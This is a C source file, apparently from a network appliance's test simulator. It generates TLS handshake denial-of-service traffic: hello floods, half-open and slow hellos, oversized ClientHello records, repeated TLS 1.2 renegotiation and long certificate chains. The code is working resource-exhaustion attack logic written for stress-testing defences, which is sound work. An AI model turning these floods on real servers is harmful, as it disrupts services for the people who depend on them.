/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks by handshakes of TLS: hellos that a library wrote, begun, slow, long, again and again;
 * and what only an established client can say. He pays for as little as he can: all his hellos are
 * one hello. */
#include "attack.h"

#include "attack_tls12.h"
#include "base/assert.h"
#include "tcp/tcp_types.h"

#include <openssl/err.h>
#include <openssl/ssl.h>
#include <string.h>

#define SEGMENT_BYTES 1400u
#define LONG_RECORD_BYTES 16384u
#define LONG_HELLO_BYTES 130816u /* as OpenSSL takes them, nearly */
#define SLOW_HELLO_BYTES 16320u  /* as we take them, nearly */
#define HELLOS_PER_SEGMENT 16u
#define CLIENTS_MAX 40u
#define CERTIFICATES 24u

/* A client that ends its handshake. */
struct client {
    SSL *ssl;                   /* NULL: not open */
    struct attack_tls12 *after; /* the handshake; NULL: not yet */
};

static struct {
    SSL_CTX *context;
    uint8_t hello[SEGMENT_BYTES]; /* a record */
    size_t hello_bytes;
    struct client clients[CLIENTS_MAX];
} tls;

static bool has_clients(const struct attack *a)
{
    return a->name == ATTACK_tls_renegotiation || a->name == ATTACK_tls_certificates;
}

static SSL *new_ssl(void)
{
    SSL *ssl = SSL_new(tls.context);
    ASSERT(ssl != NULL);
    SSL_set_bio(ssl, BIO_new(BIO_s_mem()), BIO_new(BIO_s_mem()));
    SSL_set_tlsext_host_name(ssl, SIM_NAME);
    SSL_set_connect_state(ssl);
    return ssl;
}

/* A certificate of this CA, and many more behind it that lead nowhere. */
static void show_certificates(void)
{
    const struct sim_pem *pem = sim_cert(SIM_CERT_backend);
    sim_tls_use_identity(tls.context, pem);
    X509 *one = SSL_CTX_get0_certificate(tls.context);
    for (unsigned i = 0; i < CERTIFICATES; i++)
        SSL_CTX_add1_chain_cert(tls.context, one);
}

void attack_tls_begin(const struct attack *a)
{
    memset(&tls, 0, sizeof(tls));
    ASSERT(!has_clients(a) || a->n_conns <= CLIENTS_MAX);
    tls.context = SSL_CTX_new(TLS_client_method());
    ASSERT(tls.context != NULL);
    SSL_CTX_set1_groups_list(tls.context, "X25519:P-256"); /* the second for certificates of 1.2 */
    SSL_CTX_set_session_cache_mode(tls.context, SSL_SESS_CACHE_OFF);
    if (a->name == ATTACK_tls_renegotiation)
        attack_tls12_only(tls.context);
    if (a->name == ATTACK_tls_certificates)
        show_certificates();
    SSL *ssl = new_ssl();
    SSL_do_handshake(ssl);
    int n = BIO_read(SSL_get_wbio(ssl), tls.hello, sizeof(tls.hello));
    ASSERT(n > 0 && BIO_ctrl_pending(SSL_get_wbio(ssl)) == 0);
    tls.hello_bytes = (size_t)n;
    SSL_free(ssl);
    ERR_clear_error();
}

static void forget(struct client *k)
{
    SSL_free(k->ssl);
    attack_tls12_free(k->after);
    *k = (struct client){.ssl = NULL};
}

void attack_tls_end(void)
{
    for (unsigned i = 0; i < CLIENTS_MAX; i++)
        forget(&tls.clients[i]);
    SSL_CTX_free(tls.context);
    ERR_clear_error();
}

static struct client *client_of(const struct attack *a, const struct attack_conn *c)
{
    return &tls.clients[c - a->conns];
}

static void say(struct attack *a, struct attack_conn *c, const void *bytes, size_t n)
{
    attack_conn_send(a, c, TCP_ACK | TCP_PSH, 65535, bytes, n);
}

/* What the library wants to say. */
static void flush(struct attack *a, struct attack_conn *c, SSL *ssl)
{
    uint8_t segment[SEGMENT_BYTES];
    for (int n; (n = BIO_read(SSL_get_wbio(ssl), segment, sizeof(segment))) > 0;)
        say(a, c, segment, (size_t)n);
}

/* As far as it goes with what came. */
static void shake(struct attack *a, struct attack_conn *c)
{
    struct client *k = client_of(a, c);
    ERR_clear_error();
    bool is_open = SSL_do_handshake(k->ssl) == 1;
    flush(a, c, k->ssl);
    if (is_open && a->name == ATTACK_tls_renegotiation)
        k->after = attack_tls12_after(k->ssl);
    ERR_clear_error();
}

/* The byte at this place of a hello of so many: records of full size, all of one message. */
static uint8_t long_byte(uint32_t bytes, uint32_t at)
{
    static const uint8_t record[] = {22, 3, 1, LONG_RECORD_BYTES >> 8, LONG_RECORD_BYTES & 255};
    const uint8_t message[] = {1, (uint8_t)(bytes >> 16), (uint8_t)(bytes >> 8), (uint8_t)bytes, 3,
                               3};
    uint32_t within = at % (sizeof(record) + LONG_RECORD_BYTES);
    if (within < sizeof(record))
        return record[within];
    return at < sizeof(record) + sizeof(message) ? message[at - sizeof(record)] : 'a';
}

static void say_long(struct attack *a, struct attack_conn *c, uint32_t n)
{
    uint8_t segment[SEGMENT_BYTES];
    uint32_t bytes = a->name == ATTACK_tls_slow_hellos ? SLOW_HELLO_BYTES : LONG_HELLO_BYTES;
    ASSERT(n <= sizeof(segment));
    for (uint32_t i = 0; i < n; i++)
        segment[i] = long_byte(bytes, c->seq - c->body + i);
    say(a, c, segment, n);
}

void attack_tls_open(struct attack *a, struct attack_conn *c)
{
    c->body = c->seq;
    if (has_clients(a)) {
        struct client *k = client_of(a, c);
        forget(k);
        k->ssl = new_ssl();
        shake(a, c);
    } else if (a->name == ATTACK_tls_slow_hellos || a->name == ATTACK_tls_long_hellos) {
        say_long(a, c, 11); /* how long it will be */
    } else {
        say(a, c, tls.hello, tls.hello_bytes);
    }
}

/* Where the appliance ends, he comes again. */
void attack_tls_answer(struct attack *a, struct attack_conn *c, uint8_t flags, const uint8_t *data,
                       size_t bytes)
{
    struct client *k = has_clients(a) ? client_of(a, c) : NULL;
    bool is_enough = a->name == ATTACK_tls_hellos ||
                     (a->name == ATTACK_tls_certificates && SSL_is_init_finished(k->ssl));
    if ((flags & TCP_FIN) != 0 || (bytes > 0 && is_enough)) {
        attack_conn_send(a, c, TCP_RST | TCP_ACK, 0, NULL, 0);
        c->port = 0;
        return;
    }
    if (bytes == 0)
        return;
    attack_conn_send(a, c, TCP_ACK, 65535, NULL, 0);
    if (k != NULL && k->after == NULL) {
        BIO_write(SSL_get_rbio(k->ssl), data, (int)bytes);
        shake(a, c);
    }
}

void attack_tls_hellos_send(struct attack *a)
{
    attack_next_conn(a);
}

void attack_tls_begun_send(struct attack *a)
{
    attack_next_conn(a);
}

void attack_tls_slow_hellos_send(struct attack *a)
{
    struct attack_conn *c = attack_next_conn(a);
    if (c != NULL)
        say_long(a, c, 1);
}

void attack_tls_long_hellos_send(struct attack *a)
{
    struct attack_conn *c = attack_next_conn(a);
    if (c != NULL && c->seq - c->body < LONG_HELLO_BYTES)
        say_long(a, c, SEGMENT_BYTES);
}

void attack_tls_renegotiation_send(struct attack *a)
{
    static const uint8_t again[41] = {1, 0, 0, 37, 3, 3}; /* a hello without anything to choose */
    uint8_t segment[SEGMENT_BYTES];
    size_t n = 0;
    struct attack_conn *c = attack_next_conn(a);
    if (c == NULL || client_of(a, c)->after == NULL)
        return;
    for (unsigned i = 0; i < HELLOS_PER_SEGMENT; i++)
        n += attack_tls12_seal(client_of(a, c)->after, 22, again, sizeof(again), segment + n);
    ASSERT(n <= sizeof(segment));
    say(a, c, segment, n);
}

void attack_tls_certificates_send(struct attack *a)
{
    attack_next_conn(a);
}
